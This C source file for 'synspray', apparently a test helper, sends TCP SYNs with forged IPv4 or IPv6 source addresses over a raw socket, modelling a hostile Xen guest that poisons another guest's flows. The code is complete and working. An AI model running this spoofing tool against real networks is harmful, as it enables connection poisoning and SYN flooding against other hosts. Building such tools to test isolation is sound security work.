/* synspray: what a hostile guest sends to poison another guest's flows. It
 * sends TCP SYNs whose source address is not the sender's own (a forged
 * source is all a guest needs: Xen does not filter a bridged vif's source
 * addresses), one SYN per source port, through a raw IP socket so that the
 * kernel routes them and resolves the next hop like any other packet.
 *
 *   synspray SRC_IP DST_IP DST_PORT SPORT_FROM [SPORT_TO]
 *
 * SRC_IP and DST_IP are both IPv4 or both IPv6. On stdout, one JSON line:
 *   {"sent":N}   or {"error":"..."} with exit status 1. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static void fail(const char *what)
{
	printf("{\"error\":\"%s: %s\"}\n", what, strerror(errno));
	exit(1);
}

static void usage(void)
{
	fprintf(stderr, "usage: synspray SRC_IP DST_IP DST_PORT SPORT_FROM [SPORT_TO]\n");
	exit(2);
}

static uint32_t sum16(const void *data, size_t len, uint32_t acc)
{
	const uint8_t *p = data;
	for (; len > 1; len -= 2, p += 2) acc += (uint32_t)p[0] << 8 | p[1];
	if (len) acc += (uint32_t)p[0] << 8;
	return acc;
}

static uint16_t fold(uint32_t acc)
{
	while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
	return htons((uint16_t)~acc);
}

/* A SYN as a kernel sends it, less the options (none needed to open a request). */
static void fill_syn(struct tcphdr *t, uint16_t sport, uint16_t dport)
{
	memset(t, 0, sizeof(*t));
	t->source = htons(sport);
	t->dest = htons(dport);
	t->seq = htonl((uint32_t)random());
	t->doff = sizeof(*t) / 4;
	t->syn = 1;
	t->window = htons(64240);
}

static unsigned long parse_port(const char *s)
{
	char *end;
	unsigned long v = strtoul(s, &end, 10);
	if (*end || v == 0 || v > 65535) usage();
	return v;
}

/* The family's raw socket, destination and IP header; the TCP header follows the IP header in pkt. */
struct family {
	int fd;
	struct sockaddr_storage dst;
	socklen_t dstlen;
	size_t iplen;
	uint32_t pseudo; /* the addresses' part of the TCP pseudo-header sum */
	union { struct iphdr v4; struct ip6_hdr v6; } ip;
};

static int open_family(struct family *f, const char *src, const char *dst)
{
	struct in_addr s4, d4;
	struct in6_addr s6, d6;
	memset(f, 0, sizeof(*f));
	if (inet_pton(AF_INET, src, &s4) == 1 && inet_pton(AF_INET, dst, &d4) == 1) {
		f->fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* implies IP_HDRINCL */
		struct sockaddr_in *sa = (struct sockaddr_in *)&f->dst;
		sa->sin_family = AF_INET;
		sa->sin_addr = d4;
		f->dstlen = sizeof(*sa);
		f->iplen = sizeof(f->ip.v4);
		f->ip.v4 = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,
			.tot_len = htons(sizeof(f->ip.v4) + sizeof(struct tcphdr)),
			.saddr = s4.s_addr, .daddr = d4.s_addr }; /* the kernel fills in id and the header checksum */
		f->pseudo = sum16(&d4, 4, sum16(&s4, 4, 0));
	} else if (inet_pton(AF_INET6, src, &s6) == 1 && inet_pton(AF_INET6, dst, &d6) == 1) {
		f->fd = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW); /* implies IPV6_HDRINCL */
		struct sockaddr_in6 *sa = (struct sockaddr_in6 *)&f->dst;
		sa->sin6_family = AF_INET6;
		sa->sin6_addr = d6;
		f->dstlen = sizeof(*sa);
		f->iplen = sizeof(f->ip.v6);
		f->ip.v6 = (struct ip6_hdr){ .ip6_flow = htonl(6u << 28), .ip6_plen = htons(sizeof(struct tcphdr)),
			.ip6_nxt = IPPROTO_TCP, .ip6_hlim = 64, .ip6_src = s6, .ip6_dst = d6 };
		f->pseudo = sum16(&d6, 16, sum16(&s6, 16, 0));
	} else {
		return -1;
	}
	if (f->fd < 0) fail("socket");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 5 && argc != 6) usage();
	unsigned long dport = parse_port(argv[3]), from = parse_port(argv[4]);
	unsigned long to = argc == 6 ? parse_port(argv[5]) : from;
	if (to < from) usage();
	srandom((unsigned)time(NULL) ^ (unsigned)getpid());

	struct family f;
	if (open_family(&f, argv[1], argv[2]) < 0) usage();
	uint8_t pkt[sizeof(f.ip) + sizeof(struct tcphdr)];
	memcpy(pkt, &f.ip, f.iplen);
	struct tcphdr *tcp = (struct tcphdr *)(pkt + f.iplen);
	unsigned long sent = 0;
	for (unsigned long p = from; p <= to; p++) {
		fill_syn(tcp, (uint16_t)p, (uint16_t)dport);
		tcp->check = fold(sum16(tcp, sizeof(*tcp), f.pseudo + IPPROTO_TCP + sizeof(*tcp)));
		if (sendto(f.fd, pkt, f.iplen + sizeof(*tcp), 0, (struct sockaddr *)&f.dst, f.dstlen) < 0) fail("sendto");
		sent++;
	}
	printf("{\"sent\":%lu}\n", sent);
	return 0;
}
